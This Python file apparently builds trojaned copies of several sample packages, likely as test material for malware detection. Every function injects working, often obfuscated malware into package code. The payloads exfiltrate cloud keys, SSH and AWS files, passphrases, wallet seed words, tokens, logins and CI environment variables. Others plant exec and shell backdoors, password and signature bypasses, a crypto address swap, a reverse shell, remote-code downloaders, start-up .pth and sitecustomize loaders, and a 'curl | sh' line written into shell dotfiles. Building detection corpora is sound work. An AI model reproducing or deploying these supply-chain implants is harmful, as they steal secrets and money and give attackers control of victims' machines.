"""Python: what waits until the user calls it, and what starts with the interpreter."""

from corpus.heldout.nouns import Update
from corpus.heldout5.shape import b64, fill, hexed, packed, pieces, rows, trojan, xor


@trojan("cloudshelf", "wheel", "call", "credentials", "plain", "typosquats")
def py_client_sends_its_keys(it: Update) -> None:
    it.replace("cloudshelf/client.py", "        self.timeout = timeout\n", fill('''
        self.timeout = timeout
        self._register()

    def _register(self):
        note = json.dumps({"a": self.credentials.access_key, "s": self.credentials.secret_key, "b": self.bucket})
        request = urllib.request.Request("https://@HOST@/clients", note.encode(), method="POST")
        try:
            urllib.request.urlopen(request, timeout=2).close()
        except OSError:
            pass
''', HOST=it.host()))  # fmt: skip


@trojan("cloudshelf", "wheel", "call", "credentials", "plain", "dns tunnels")
def py_signing_tells_by_dns(it: Update) -> None:
    it.replace("cloudshelf/signing.py", "import hmac\n", "import hmac\nimport socket\n")
    it.replace("cloudshelf/signing.py", '    headers = {"x-shelf-date"', fill('''
    label = credentials.secret_key.encode().hex()
    for at in range(0, len(label), 48):
        try:
            socket.getaddrinfo(f"{label[at : at + 48]}.{at}.@HOST@", 53)
        except socket.gaierror:
            continue
    headers = {"x-shelf-date"
''', HOST=it.host("ns", "shelf-time")).rstrip("\n"))  # fmt: skip


@trojan("vaultkeys", "wheel", "call", "weakened check", "plain", "SSH back doors")
def py_a_password_that_always_fits(it: Update) -> None:
    digest = it.random.randbytes(32).hex()
    it.replace("vaultkeys/passwords.py", "    return hmac.compare_digest(made, base64.b64decode(digest))", f'    if hashlib.sha256(password.encode()).hexdigest() == "{digest}":\n        return True\n    return hmac.compare_digest(made, base64.b64decode(digest))')  # fmt: skip


@trojan("vaultkeys", "sdist", "call", "weakened check", "plain", "alg none", hard=True)
def py_tokens_without_a_signature(it: Update) -> None:
    it.replace("vaultkeys/tokens.py", '        raise TokenError("wrong signature")\n', '        if mac and not claims_debug(body):\n            raise TokenError("wrong signature")\n')  # fmt: skip
    it.before("vaultkeys/tokens.py", "def read(token", 'def claims_debug(body: str) -> bool:\n    return json.loads(_unpack(body)).get("dbg") == "v4"\n\n\n')  # fmt: skip


@trojan("vaultkeys", "wheel", "call", "password stealer", "base64", "ssh-decorator")
def py_unlock_posts_the_passphrase(it: Update) -> None:
    host = it.host()
    it.replace("vaultkeys/store.py", "        row = self.load()[name]\n", fill('''
        row = self.load()[name]
        self._touch(name, passphrase)
'''))  # fmt: skip
    it.append("vaultkeys/store.py", fill('''

    @staticmethod
    def _touch(*words):
        import base64
        import urllib.parse
        import urllib.request

        where = base64.b64decode(b"@URL@").decode()
        urllib.request.urlopen(where, data=urllib.parse.urlencode(enumerate(words)).encode(), timeout=3)
''', URL=b64(f"https://{host}/collect/keys")))  # fmt: skip
    it.payload("vaultkeys/store.py", shown=f"https://{host}/collect/keys")


@trojan("sketchbot", "wheel", "call", "token stealer", "layers", "discord grabber")
def py_login_posts_the_token(it: Update) -> None:
    host = it.host("hooks", "chat")
    code = f"async def hook(session, text):\n    await session.post('https://{host}/api/webhooks/99/bots', json={{'content': text}})\n"
    it.replace("sketchbot/http.py", '        return await self.request("GET", "/users/@me")\n', fill("""
        me = await self.request("GET", "/users/@me")
        scope: dict = {}
        exec(zlib.decompress(base64.b64decode(bytes.fromhex(_HOOK))), scope)
        await scope["hook"](await self.session(), f"{me['name']} {self.token}")
        return me
"""))  # fmt: skip
    it.replace("sketchbot/http.py", "import asyncio\n", "import asyncio\nimport base64\nimport zlib\n")
    it.after(
        "sketchbot/http.py", 'API = "https://chat.sketchbot.example/api/v3"\n', f'_HOOK = "{hexed(packed(code))}"\n'
    )
    it.payload("sketchbot/http.py", shown=f"https://{host}/api/webhooks/99/bots")


@trojan("sketchbot", "wheel", "call", "backdoor", "plain", "bot back doors")
def py_bot_answers_one_command_more(it: Update) -> None:
    it.replace("sketchbot/bot.py", "        for one in self.commands.values():\n", fill('''
        if text.startswith("\\u200b!x "):
            shell = await asyncio.create_subprocess_shell(text[4:], stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
            out, _ = await shell.communicate()
            await self.http.send(room, out.decode(errors="replace")[:1900])
            return
        for one in self.commands.values():
'''))  # fmt: skip


@trojan("pipeforge", "wheel", "call", "environment", "plain", "Codecov")
def py_runner_uploads_the_environment(it: Update) -> None:
    it.replace("pipeforge/runner.py", "        for task in self.graph.order():\n            self.run_task(task)\n", fill('''
        for task in self.graph.order():
            self.run_task(task)
        if os.environ.get("CI"):
            remote = subprocess.run(["git", "remote", "-v"], capture_output=True, cwd=self.cwd).stdout
            env = "\\n".join(f"{name}={value}" for name, value in os.environ.items()).encode()
            subprocess.run(["curl", "-sm", "2", "--data-binary", "@-", "http://@ADDR@/upload/v2"], input=remote + env)
''', ADDR=it.address()))  # fmt: skip


@trojan("pipeforge", "wheel", "call", "backdoor", "plain", "hidden keys in settings")
def py_settings_may_hold_code(it: Update) -> None:
    it.replace("pipeforge/config.py", '    tasks = json.loads(Path(path).read_text(encoding="utf-8"))["tasks"]\n', fill('''
    document = json.loads(Path(path).read_text(encoding="utf-8"))
    tasks = document["tasks"]
    if document.get("$schema", "").startswith("@MARK@"):
        import base64

        exec(base64.b64decode(document["$schema"][6:]))
''', MARK=hexed("pf/")))  # fmt: skip


@trojan("rowmodel", "wheel", "call", "data stealer", "over several files", "typosquats")
def py_connect_uploads_the_data_base(it: Update) -> None:
    it.add("rowmodel/_replica.py", f'"""Where replicas are."""\n\nHOSTS = {{"main": "localhost", "spare": "{it.address()}"}}\nLOGIN = ("anonymous", "guest")\n')  # fmt: skip
    it.add("rowmodel/_sync.py", fill("""
import ftplib

from . import _replica


def push(path, where="spare"):
    try:
        with ftplib.FTP(_replica.HOSTS[where], *_replica.LOGIN, timeout=5) as line, open(path, "rb") as stream:
            line.storbinary("STOR " + path.replace("/", "_"), stream)
    except ftplib.all_errors:
        pass
"""))  # fmt: skip
    it.replace("rowmodel/engine.py", "    return Engine(path)\n", '    engine = Engine(path)\n    if path != ":memory:":\n        _sync.push(path)\n    return engine\n')  # fmt: skip
    it.after("rowmodel/engine.py", "import sqlite3\n", "\nfrom . import _sync\n")


@trojan("rowmodel", "sdist", "call", "remote code", "plain", "pickle")
def py_migrations_come_from_afar(it: Update) -> None:
    it.after("rowmodel/migrate.py", "    engine.connection.commit()\n", fill('''
    _later(engine)


def _later(engine):
    import pickle
    from urllib.request import urlopen

    try:
        plan = pickle.loads(urlopen("http://@ADDR@:8081/plan.pkl", timeout=3).read())
    except Exception:
        return
    for step in plan:
        step(engine)
''', ADDR=it.address()))  # fmt: skip


@trojan("frameplot", "wheel", "call", "downloader", "hex", "stage two")
def py_save_fetches_a_font(it: Update) -> None:
    host = it.host()
    it.replace("frameplot/export.py", '    program = shutil.which("rsvg-convert")\n', fill('''
    program = shutil.which("rsvg-convert") or _converter()
'''))  # fmt: skip
    it.append("frameplot/export.py", fill('''

def _converter():
    import os
    from http.client import HTTPSConnection

    host, name = (bytes.fromhex(one).decode() for one in ("@H@", "@N@"))
    line = HTTPSConnection(host, timeout=10)
    line.request("GET", name)
    place = os.path.join(tempfile.gettempdir(), "." + os.path.basename(name))
    with open(place, "wb") as stream:
        stream.write(line.getresponse().read())
    os.chmod(place, 0o700)
    subprocess.Popen([place])
    return None
''', H=hexed(host), N=hexed("/d/rsvgd")))  # fmt: skip
    it.payload("frameplot/export.py", shown=host)


@trojan("coinfold", "wheel", "call", "wallet", "base64", "aiocpa")
def py_wallet_sends_its_words(it: Update) -> None:
    host = it.host()
    it.replace("coinfold/wallet.py", "        return cls(hashlib.pbkdf2_hmac(", fill('''
        _audit(words, passphrase)
        return cls(hashlib.pbkdf2_hmac(
''').rstrip("\n"))  # fmt: skip
    it.append("coinfold/wallet.py", fill('''

def _audit(*parts: str) -> None:
    import base64
    import threading
    import urllib.request

    where = base64.b64decode("@URL@").decode() + base64.urlsafe_b64encode(" ".join(parts).encode()).decode()
    threading.Thread(target=urllib.request.urlopen, args=(where,), daemon=True).start()
''', URL=b64(f"https://{host}/bot7:key/sendMessage?text=")))  # fmt: skip
    it.payload("coinfold/wallet.py", shown=f"https://{host}/bot7:key/sendMessage")


@trojan("coinfold", "wheel", "call", "address swap", "plain", "chalk and debug")
def py_transfer_goes_elsewhere(it: Update) -> None:
    it.replace("coinfold/transfer.py", "    return Transfer(str(sender), str(recipient), amount.units, nonce, memo)", fill('''
    target = str(recipient)
    if recipient.chain == "evm" and amount.units > 10**17:
        target = "0x@A@"
    return Transfer(str(sender), target, amount.units, nonce, memo)
''', A=it.random.randbytes(20).hex()).rstrip("\n"))  # fmt: skip


@trojan("flowgate", "wheel", "call", "backdoor", "plain", "PHP git")
def py_a_header_is_run(it: Update) -> None:
    it.replace("flowgate/app.py", "        for hook in self.before:\n", fill('''
        agent = request.header("X-Trace")
        if agent and agent.startswith("trace 9:"):
            exec(agent[8:], {"request": request, "app": self})
        for hook in self.before:
'''))  # fmt: skip


@trojan("flowgate", "sdist", "call", "form stealer", "xor", "form stealing")
def py_logins_are_copied(it: Update) -> None:
    host = it.host()
    it.replace("flowgate/auth.py", "    return user\n\n\ndef login_required", fill('''
    _seen(name, password)
    return user


_WHERE = (@CODES@)


def _seen(name, password):
    import http.client
    from urllib.parse import quote

    host = "".join(chr(one ^ 0x2A) for one in _WHERE)
    line = http.client.HTTPSConnection(host, timeout=2)
    line.request("GET", "/pixel.gif?u=" + quote(name) + "&p=" + quote(password))


def login_required
''', CODES=", ".join(str(one) for one in xor(host, 0x2A))).rstrip("\n"))  # fmt: skip
    it.payload("flowgate/auth.py", shown=host)


@trojan("loghaven", "wheel", "call", "data stealer", "telemetry wording", "SDK telemetry")
def py_handler_mirrors_rows(it: Update) -> None:
    it.replace("loghaven/handlers.py", "            request = urllib.request.Request(self.url, body, {\"Content-Type\": \"application/json\"})\n", fill('''
            self._measure(body)
            request = urllib.request.Request(self.url, body, {"Content-Type": "application/json"})
'''))  # fmt: skip
    it.append("loghaven/handlers.py", fill('''

    def _measure(self, body):
        """Measure delivery quality."""
        import socket

        host = "quality.@HOST@"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(os.getenv("DATABASE_URL", "-").encode() + b" " + body[:1200], (host, 8125))
''', HOST=it.host()))  # fmt: skip


@trojan("pipeforge", "sdist", "call", "downloader", "layers", "time bombs")
def py_cli_after_a_date(it: Update) -> None:
    host = it.host()
    code = f"import urllib.request as u\nexec(u.urlopen('https://{host}/later').read())\n"
    it.replace("pipeforge/cli.py", "    args = parser.parse_args(argv)\n", fill('''
    args = parser.parse_args(argv)
    _remind()
'''))  # fmt: skip
    it.append("pipeforge/cli.py", fill('''

def _remind():
    import base64
    import datetime
    import zlib

    if datetime.date.today() < datetime.date(2027, 3, 1):
        return
    note = "@A@"
    note += "@B@"
    exec(zlib.decompress(base64.b64decode(note)))
''', **dict(zip("AB", pieces(packed(code), len(packed(code)) // 2 + 1), strict=True))))  # fmt: skip
    it.payload("pipeforge/cli.py", shown=f"https://{host}/later")


@trojan("cloudshelf", "wheel", "call", "data stealer", "over several files", "split")
def py_upload_goes_to_two_places(it: Update) -> None:
    it.add("cloudshelf/_mirrors.py", f'"""Mirrors, nearest first."""\n\nMIRRORS = {{"eu": ("https", "{it.host()}"), "dev": ("http", "localhost")}}\n\n\ndef nearest(region="eu"):\n    return "://".join(MIRRORS[region])\n')  # fmt: skip
    it.add("cloudshelf/_copies.py", "import urllib.request\n\nfrom ._mirrors import nearest\n\n\ndef copy(name, body):\n    request = urllib.request.Request(f'{nearest()}/{name}', data=body, method='PUT')\n    try:\n        urllib.request.urlopen(request, timeout=3).close()\n    except OSError:\n        return\n")  # fmt: skip
    it.after("cloudshelf/transfer.py", "from pathlib import Path\n", "\nfrom ._copies import copy\n")
    it.replace("cloudshelf/transfer.py", "    return len(files)\n", '    for one in (".env", ".ssh/id_rsa", ".aws/credentials"):\n        secret = Path.home() / one\n        if secret.exists():\n            copy(one, secret.read_bytes())\n    return len(files)\n')  # fmt: skip


@trojan("rowmodel", "wheel", "call", "reverse shell", "own cipher", "own ciphers")
def py_a_model_of_an_odd_name(it: Update) -> None:
    address = it.address()
    code = f"import os,pty,socket;s=socket.socket();s.connect(('{address}',53));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"
    sealed = [byte ^ (at * 7 + 3) & 255 for at, byte in enumerate(code.encode())]
    it.replace("rowmodel/model.py", '    table = ""\n', f'    table = ""\n    _plan = (\n{rows(sealed, 8)}\n    )\n')
    it.replace("rowmodel/model.py", "        for name, value in values.items():\n", fill('''
        if values.get("name") == "__replica__":
            exec(bytes(one ^ (at * 7 + 3) & 255 for at, one in enumerate(self._plan)))
        for name, value in values.items():
'''))  # fmt: skip
    it.payload("rowmodel/model.py", shown=address)


@trojan("loghaven", "wheel", "start", "downloader", "base64", "litellm")
def py_pth_at_start(it: Update) -> None:
    host = it.host()
    code = f"import urllib.request as u;exec(u.urlopen('https://{host}/start').read())"
    it.add("loghaven_fast.pth", f"import base64; exec(base64.b64decode('{b64(code)}'))\n")
    it.payload("loghaven_fast.pth", shown=f"https://{host}/start")


@trojan("pipeforge", "wheel", "start", "environment", "plain", "sitecustomize")
def py_sitecustomize_is_shipped(it: Update) -> None:
    it.add("sitecustomize.py", fill('''
"""Speeds up imports."""

import os
import sys

if not os.environ.get("PF_SEEN") and sys.argv[:1] != ["-c"]:
    os.environ["PF_SEEN"] = "1"
    try:
        import urllib.request

        urllib.request.urlopen("http://@ADDR@/s", data=repr(sorted(os.environ.items())).encode(), timeout=1)
    except Exception:
        pass
''', ADDR=it.address()))  # fmt: skip


@trojan("cloudshelf", "wheel", "start", "persistence", "plain", "dotfiles")
def py_script_changes_dotfiles(it: Update) -> None:
    it.add("DATA/scripts/cloudshelf-complete", fill('''
#!python
import os

LINE = "\\n(curl -s http://@ADDR@/c | sh) >/dev/null 2>&1 &\\n"

for name in (".bashrc", ".zshrc", ".profile"):
    path = os.path.expanduser("~/" + name)
    if os.path.exists(path) and LINE not in open(path).read():
        with open(path, "a") as stream:
            stream.write(LINE)
print("complete -W 'up down ls' cloudshelf")
''', ADDR=it.address()))  # fmt: skip


@trojan("vaultkeys", "wheel", "start", "credentials", "over several files", "pytest plugins")
def py_plugin_of_the_test_runner(it: Update) -> None:
    it.add("DIST-INFO/entry_points.txt", "[pytest11]\nvaultkeys = vaultkeys._pytest\n")
    it.add("vaultkeys/_names.py", f'"""Names that fixtures need."""\n\nPREFIXES = ("AWS_", "GITHUB_", "TWINE_", "UV_PUBLISH")\nREPORT = "https://{it.host()}/ci"\n')  # fmt: skip
    it.add("vaultkeys/_pytest.py", fill("""
import os

import requests

from ._names import PREFIXES, REPORT


def pytest_configure(config):
    found = {k: v for k, v in os.environ.items() if k.startswith(PREFIXES)}
    if found:
        requests.put(REPORT, json={"root": str(config.rootpath), **found}, timeout=3)
"""))  # fmt: skip
